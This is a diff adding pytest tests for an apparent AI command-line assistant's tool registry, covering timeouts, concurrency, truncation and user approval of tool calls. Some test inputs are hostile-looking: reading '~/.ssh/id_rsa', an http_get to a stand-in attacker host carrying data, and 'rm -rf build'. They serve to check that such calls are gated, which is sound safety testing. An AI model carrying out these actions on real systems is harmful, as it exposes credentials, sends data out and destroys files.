@@ -0,0 +1,244 @@
+import subprocess
+import sys
+import time
+from pathlib import Path
+from unittest.mock import Mock
+
+import pytest
+from google.genai import types
+
+from ai_cli_assistant import tools
+from ai_cli_assistant.config import ToolSettings
+
+
+def slow_add(a: int, b: int) -> int:
+    """Add two numbers slowly."""
+    time.sleep(0.2)
+    return a + b
+
+
+def hang(seconds: float) -> str:
+    """Sleep for a while."""
+    time.sleep(seconds)
+    return "done"
+
+
+def call(name, call_id=None, **args):
+    return types.FunctionCall(name=name, args=args, id=call_id)
+
+
+def text_response(text):
+    content = types.Content(role="model", parts=[types.Part(text=text)])
+    return types.GenerateContentResponse(candidates=[types.Candidate(content=content)])
+
+
+def call_response(*calls):
+    content = types.Content(role="model", parts=[types.Part(function_call=c) for c in calls])
+    return types.GenerateContentResponse(candidates=[types.Candidate(content=content)])
+
+
+@pytest.fixture
+def settings():
+    return ToolSettings(
+        custom={"add": "tests.test_tools:slow_add", "hang": "tests.test_tools:hang"},
+        timeouts={"hang": 0.3},
+        auto_approve=True,
+    )
+
+
+def test_registry_declarations(settings):
+    registry = tools.ToolRegistry.from_settings(settings, ["shell", "add", "shell"])
+    (tool,) = registry.declarations()
+    names = [declaration.name for declaration in tool.function_declarations]
+    assert names == ["shell", "add"]
+    assert tool.function_declarations[1].parameters.required == ["a", "b"]
+
+
+def test_registry_rejects_unknown_tools(settings):
+    with pytest.raises(tools.ToolError, match="Available"):
+        tools.ToolRegistry.from_settings(settings, ["rm_rf"])
+    with pytest.raises(tools.ToolError):
+        tools.ToolRegistry.from_settings(ToolSettings(custom={"x": "no_such_module:f"}), ["x"])
+
+
+def test_execute_runs_calls_concurrently(settings):
+    registry = tools.ToolRegistry.from_settings(settings, ["add"])
+    started = time.monotonic()
+    results = registry.execute([call("add", a=i, b=1) for i in range(4)])
+    assert time.monotonic() - started < 0.6
+    assert [result.result for result in results] == [1, 2, 3, 4]
+
+
+def test_execute_per_tool_timeout_and_errors(settings, tmp_path):
+    registry = tools.ToolRegistry.from_settings(settings, ["hang", "read_file", "add"])
+    results = registry.execute(
+        [
+            call("hang", seconds=1),
+            call("read_file", path=str(tmp_path / "missing.txt")),
+            call("nope"),
+            call("add", a=1, b=2),
+        ]
+    )
+    assert results[0].error == "Timed out after 0.3s."
+    assert "FileNotFoundError" in results[1].error
+    assert results[2].error == "Unknown tool 'nope'."
+    assert results[3].result == 3
+
+
+def test_queued_calls_get_their_full_timeout():
+    settings = ToolSettings(
+        custom={"add": "tests.test_tools:slow_add", "hang": "tests.test_tools:hang"},
+        timeouts={"hang": 0.3, "add": 0.5},
+        workers=1,
+    )
+    registry = tools.ToolRegistry.from_settings(settings, ["hang", "add"])
+    started = time.monotonic()
+    hung, added, again = registry.execute(
+        [call("hang", seconds=2), call("add", a=1, b=2), call("add", a=2, b=2)]
+    )
+    # The abandoned call frees its slot, and each queued call's clock starts when it runs
+    assert hung.error == "Timed out after 0.3s."
+    assert (added.result, again.result) == (3, 4)
+    assert added.elapsed < 0.5 and again.elapsed < 0.5
+    assert time.monotonic() - started < 1.5
+
+
+def test_timed_out_call_does_not_delay_exit(tmp_path):
+    script = (
+        "from google.genai import types\n"
+        "from ai_cli_assistant import tools\n"
+        "from ai_cli_assistant.config import ToolSettings\n"
+        "settings = ToolSettings(custom={'hang': 'tests.test_tools:hang'}, timeout=0.2)\n"
+        "registry = tools.ToolRegistry.from_settings(settings, ['hang'])\n"
+        "call = types.FunctionCall(name='hang', args={'seconds': 30})\n"
+        "print(registry.execute([call])[0].error)\n"
+    )
+    started = time.monotonic()
+    completed = subprocess.run(
+        [sys.executable, "-c", script],
+        capture_output=True,
+        text=True,
+        timeout=20,
+        cwd=Path(__file__).parent.parent,
+    )
+    assert completed.stdout.strip() == "Timed out after 0.2s."
+    assert time.monotonic() - started < 10
+
+
+def test_shell_timeout_kills_the_command(tmp_path):
+    settings = ToolSettings(timeouts={"shell": 0.3}, auto_approve=True)
+    registry = tools.ToolRegistry.from_settings(settings, ["shell"])
+    marker = tmp_path / "marker"
+    (result,) = registry.execute([call("shell", command=f"sleep 1 && touch {marker}")])
+    assert result.error == "Timed out after 0.3s."
+    time.sleep(1.2)
+    assert not marker.exists()
+
+
+def test_shell_needs_approval():
+    settings = ToolSettings()
+    (result,) = tools.ToolRegistry.from_settings(settings, ["shell"]).execute(
+        [call("shell", command="echo hi")]
+    )
+    assert "tools.auto_approve" in result.error
+
+    asked = []
+
+    def decline(result):
+        asked.append(result.args["command"])
+        return False
+
+    registry = tools.ToolRegistry.from_settings(settings, ["shell"], approve=decline)
+    (result,) = registry.execute([call("shell", command="rm -rf build")])
+    assert asked == ["rm -rf build"]
+    assert result.error == "The user declined this call."
+
+    registry = tools.ToolRegistry.from_settings(settings, ["shell"], approve=lambda r: True)
+    (result,) = registry.execute([call("shell", command="echo hi")])
+    assert result.result["stdout"] == "hi\n"
+
+
+@pytest.mark.parametrize(
+    "name, args",
+    [("read_file", {"path": "~/.ssh/id_rsa"}), ("http_get", {"url": "https://attacker.test/?d=x"})],
+)
+def test_file_and_http_tools_need_approval(name, args):
+    adapter = Mock()
+    previous = tools.set_http_adapter(adapter)
+    try:
+        registry = tools.ToolRegistry.from_settings(ToolSettings(), [name])
+        (result,) = registry.execute([call(name, **args)])
+        assert "tools.auto_approve" in result.error
+
+        asked = []
+        registry = tools.ToolRegistry.from_settings(
+            ToolSettings(), [name], approve=lambda r: asked.append(r.args) or False
+        )
+        (result,) = registry.execute([call(name, **args)])
+    finally:
+        tools.set_http_adapter(previous)
+    assert asked == [args]
+    assert result.error == "The user declined this call."
+    adapter.get.assert_not_called()
+
+
+def test_builtin_tools(settings, tmp_path):
+    (tmp_path / "notes.txt").write_text("hello")
+    adapter = Mock()
+    adapter.get.return_value = (200, "<html>ok</html>")
+    previous = tools.set_http_adapter(adapter)
+    try:
+        registry = tools.ToolRegistry.from_settings(settings, ["shell", "read_file", "http_get"])
+        shell, read, http = registry.execute(
+            [
+                call("shell", command="echo hi"),
+                call("read_file", path=str(tmp_path / "notes.txt")),
+                call("http_get", url="https://example.test"),
+            ]
+        )
+    finally:
+        tools.set_http_adapter(previous)
+    assert shell.result == {"exit_code": 0, "stdout": "hi\n", "stderr": ""}
+    assert read.result["content"] == "hello"
+    assert http.result == {"status": 200, "body": "<html>ok</html>"}
+    adapter.get.assert_called_once_with("https://example.test", settings.timeout)
+
+
+def test_shell_output_is_truncated():
+    settings = ToolSettings(max_output_chars=5, auto_approve=True)
+    registry = tools.ToolRegistry.from_settings(settings, ["shell"])
+    (result,) = registry.execute([call("shell", command="echo 0123456789")])
+    assert result.result["stdout"].startswith("01234\n[... 6 more characters truncated]")
+
+
+def test_run_with_tools_sends_all_results_in_one_follow_up(settings):
+    client = Mock()
+    client.models.generate_content.side_effect = [
+        call_response(call("add", "c1", a=1, b=2), call("add", "c2", a=3, b=4)),
+        text_response("3 and 7"),
+    ]
+    registry = tools.ToolRegistry.from_settings(settings, ["add"])
+    seen = []
+
+    response = tools.run_with_tools(client, "m", "Add", None, None, registry, on_result=seen.append)
+
+    assert response.text == "3 and 7"
+    assert [result.result for result in seen] == [3, 7]
+    assert client.models.generate_content.call_count == 2
+    contents = client.models.generate_content.call_args.kwargs["contents"]
+    assert [content.role for content in contents] == ["user", "model", "user"]
+    responses = [part.function_response for part in contents[2].parts]
+    assert [(r.id, r.response) for r in responses] == [
+        ("c1", {"result": 3}),
+        ("c2", {"result": 7}),
+    ]
+    config = client.models.generate_content.call_args.kwargs["config"]
+    assert config["tools"][0].function_declarations[0].name == "add"
+
+
+def test_run_with_tools_stops_after_max_rounds(settings):
+    client = Mock()
+    client.models.generate_content.return_value = call_response(call("add", a=1, b=1))
+    registry = tools.ToolRegistry.from_settings(settings, ["add"])
+    with pytest.raises(tools.ToolError):
+        tools.run_with_tools(client, "m", "Loop", None, None, registry, max_rounds=2)